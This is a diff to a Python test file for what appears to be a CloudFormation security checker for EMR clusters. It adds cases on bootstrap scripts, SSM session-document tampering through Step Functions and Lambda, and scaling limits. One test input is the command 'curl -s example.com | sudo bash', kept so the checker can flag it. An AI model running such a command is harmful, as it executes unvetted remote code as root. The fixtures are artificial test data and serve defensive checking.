@@ -56,6 +56,14 @@ def opened(last: int) -> dict[str, object]:
     return {"Resources/Opened": {"Type": "AWS::Scheduler::Schedule", "Properties": {"Target": target}}}
 
 
+def calling(service: str, action: str, request: object) -> dict[str, object]:
+    """A state machine that makes one call; without a request it passes its input on."""
+    state = {"Type": "Task", "Resource": f"arn:aws:states:::aws-sdk:{service}:{action}", "End": True}
+    given = {} if request is None else {"Parameters": request}
+    definition = {"StartAt": "Call", "States": {"Call": state | given}}
+    return {"Type": "AWS::StepFunctions::StateMachine", "Properties": {"Definition": definition, "RoleArn": "arn"}}
+
+
 BLOCKED = "Resources/BlockPublicAccess/Properties/BlockPublicSecurityGroupRules"
 SETTER = {
     "Resources/Setter": {
@@ -176,6 +184,9 @@ BESIDE: list[tuple[Any, dict[str, Any], Status]] = [
 ]
 TOLD_TO_RUN_IF: list[tuple[str, Status]] = [
     ("s3://elsewhere/packages.sh", "UNKNOWN"),
+    ("/mnt/tmp/fetched.sh", "UNKNOWN"),
+    ("curl -s example.com | sudo bash", "UNKNOWN"),
+    ("bash fetched", "UNKNOWN"),
     ("sudo yum update -y", "INHERITED"),
 ]
 DRIVERS: list[tuple[Any, str, Status]] = [
@@ -481,6 +492,19 @@ MUTATIONS = [
           path=f"{CLUSTER}/JobFlowRole"),
     spoil("AUT-09", {"Resources/SessionPreferences": GONE}, resource="Cluster", path=f"{CLUSTER}/JobFlowRole",
           status="INHERITED"),
+    *[spoil("AUT-09", {"Resources/Changes": by}, status=status, resource="Cluster", path=f"{CLUSTER}/JobFlowRole",
+            reason=reason)
+      for by, status, reason in (
+          (calling("ssm", "updateDocument", {"Name": "SSM-SessionManagerRunShell", "Content": "{}"}), "UNKNOWN",
+           "Changes Call may change SSM-SessionManagerRunShell"),
+          (calling("ssm", "updateDocumentDefaultVersion", {"Name.$": "$.name", "DocumentVersion": "1"}), "UNKNOWN",
+           "Changes Call may change"),
+          (calling("ssm", "deleteDocument", {"Name": {"Ref": "SessionPreferences"}}), "UNKNOWN", "may change"),
+          (calling("ssm", "createDocument", None), "UNKNOWN", "may change"),
+          ({"Type": "AWS::Lambda::Function", "Properties": {"Code": {"ZipFile": "ssm.update_document(Name=name)"}}},
+           "UNKNOWN", "Changes may change"),
+          (calling("ssm", "updateDocument", {"Name": "theirs", "Content": "{}"}), "PASS", ""),
+          (calling("ssm", "describeDocument", {"Name": "SSM-SessionManagerRunShell"}), "PASS", ""))],
     spoil("AUT-09", {f"{CLUSTER}/JobFlowRole": "nodes", "Resources/NodeProfile/Properties/InstanceProfileName": "nodes",
           "Resources/SessionPreferences/Properties/Content/inputs/s3BucketName": ""}),
     spoil("AUT-09", {f"{CLUSTER}/JobFlowRole": "EMR_EC2_DefaultRole"}, status="INHERITED"),
@@ -561,7 +585,7 @@ MUTATIONS = [
           | {"Resources/CoreGroup/Properties/GroupName": NAMED}, path=OPEN, also={"NET-11": "FAIL"}),
     spoil("NET-03", ingress(CidrIp="0.0.0.0/0", GroupId=None, GroupName="core")
           | {"Resources/CoreGroup/Properties/GroupName": ASKED}, path=OPEN, status="UNKNOWN",
-          also={"NET-11": "UNKNOWN"}),
+          also={"NET-02": "UNKNOWN", "NET-11": "UNKNOWN"}),
     spoil("NET-03", ingress(CidrIp="0.0.0.0/0", GroupId=None, GroupName="elsewhere"), status="PASS",
           path="Resources/CoreGroup/Properties/SecurityGroupIngress"),
     spoil("NET-03", ingress(CidrIpv6="fd00::/8"), path="Resources/CoreGroup/Properties/SecurityGroupIngress",
@@ -742,6 +766,11 @@ MUTATIONS = [
     spoil("CFG-04", {f"{NIGHTLY}/CoreInstanceGroup/AutoScalingPolicy": {"Constraints": {"MaxCapacity": 4}}},
           path=f"{NIGHTLY}/CoreInstanceGroup/AutoScalingPolicy/Constraints/MaxCapacity", status="PASS"),
     spoil("CFG-04", {f"{CLUSTER}/ManagedScalingPolicy/ComputeLimits/MaximumCapacityUnits": ASKED}, status="UNKNOWN"),
+    *[spoil("CFG-04", {"Resources/Target": {
+            "Type": "AWS::ApplicationAutoScaling::ScalableTarget", "Properties": {
+                "ServiceNamespace": "elasticmapreduce", "MinCapacity": 1, "MaxCapacity": most}}},
+            path="Resources/Target/Properties/MaxCapacity", status=status)
+      for most, status in ((4, "PASS"), (ASKED, "UNKNOWN"))],
     *[spoil("CFG-05", {place: "correct-horse"}) for place in (
           f"{KERBEROS}/ClusterDedicatedKdcConfiguration/KdcAdminPassword", f"{SECURITY}/ADDomainJoinPassword",
           f"{KERBEROS}/CrossRealmTrustPrincipalPassword", f"{CLUSTER}/KerberosAttributes/AdminPassword",
@@ -823,8 +852,9 @@ MUTATIONS = [
       for command, status in TOLD_TO_RUN_IF],
     *[spoil("CFG-06", {f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction/Path": place}, status="UNKNOWN")
       for place in (
-          ASKED, {"Fn::Sub": "${AskedFor}/packages.sh"}, {"Fn::Join": ["/", [ASKED, "packages.sh"]]},
-          {"Fn::Sub": "${AskedFor}://scripts/packages.sh"})],
+          ASKED, {"Fn::Sub": "${AskedFor}/packages.sh"}, {"Fn::Join": ["/", [ASKED, "packages.sh"]]})],
+    spoil("CFG-06", {f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction/Path": {
+          "Fn::Sub": "${AskedFor}://scripts/packages.sh"}}, status="UNKNOWN", also={"ENC-12": "UNKNOWN"}),
     spoil("CFG-10", {f"{CLUSTER}/RepoUpgradeOnBoot": "NONE"}),
     spoil("CFG-10", {f"{CORE}/CustomAmiId": "ami-0123456789abcdef0"}, status="INHERITED"),
     spoil("CFG-10", {f"{TASK}/CustomAmiId": "ami-0123456789abcdef0"}, status="INHERITED"),
